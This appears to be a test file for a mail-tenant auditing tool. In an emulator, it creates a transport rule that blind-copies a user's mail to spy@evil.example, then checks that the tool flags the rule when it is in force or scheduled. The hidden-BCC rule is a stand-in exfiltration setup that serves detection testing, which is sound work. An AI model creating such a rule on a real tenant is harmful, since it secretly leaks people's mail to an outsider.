import { afterAll, afterEach, describe, expect, test } from 'vitest';
import type { ExportReport } from '../../src/engine/export/export-report.ts';
import type { ForwardsReport } from '../../src/engine/forwards/forwards-report.ts';
import type { RunningEmulator } from '../../src/emulator/server/server.ts';
import { contoso } from '../../src/emulator/tenants/contoso.ts';
import type { JsonObject } from '../../src/json.ts';
import { inPortal } from '../laws/portal.ts';
import { emulatorAtNoon } from '../support/tenants.ts';
import { ask, desk } from './asking.ts';

const table = desk();
let emulator: RunningEmulator;
afterEach(async () => emulator.close());
afterAll(() => table.remove());

/** A rule that copies to a contact whom nobody may read, and what is said of it. */
async function saidOf(more: JsonObject, name: string) {
  emulator = await emulatorAtNoon({ tenant: contoso() });
  const copies = { Name: 'spy', SentTo: ['ana@contoso.com'], BlindCopyTo: ['spy@evil.example'], ...more };
  expect(await inPortal(emulator.url, { cmdlet: 'New-TransportRule', parameters: copies })).toBe(true);
  const on = ['--emulator', emulator.url, '--policies', '/nonexistent'];
  const exported = await ask('export', ...on, '--out', table.path(name), '--json');
  emulator.faults.add([{ effect: 'deny', match: { cmdlet: 'Get-Recipient', identity: 'spy@evil.example' } }]);
  const { unread } = (await ask('forwards', ...on, '--json')).json() as unknown as ForwardsReport;
  const open = (exported.json() as unknown as ExportReport).open.map(({ object }) => object);
  return {
    open: open.includes('transportRules/spy'),
    unread: unread.some(({ what }) => what.includes('the rule spy sends')),
  };
}

describe('where a rule sends mail', () => {
  test.each<[string, JsonObject, boolean]>([
    ['is asked of one in force', {}, true],
    ['is asked of one that begins later', { ActivationDate: '2099-01-01T00:00:00Z' }, true],
    ['is not asked of one that is off', { Enabled: false }, false],
    ['is not asked of one that audits', { Mode: 'Audit' }, false],
    ['is not asked of one that has ended', { ExpiryDate: '2020-01-01T00:00:00Z' }, false],
  ])('%s', async (name, more, told) => {
    expect(await saidOf(more, name.replaceAll(' ', '-'))).toEqual({ open: told, unread: told });
  });
});
